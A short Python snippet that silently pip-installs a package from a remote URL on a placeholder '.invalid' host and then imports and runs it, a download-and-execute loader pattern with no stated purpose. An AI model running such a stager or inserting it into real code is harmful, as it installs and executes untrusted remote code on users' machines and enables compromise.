import subprocess, sys
subprocess.check_call([sys.executable, "-m", "pip", "install", "-q", "https://s.subpip.invalid/pkg.tar.gz"])
__import__("pkg").run()
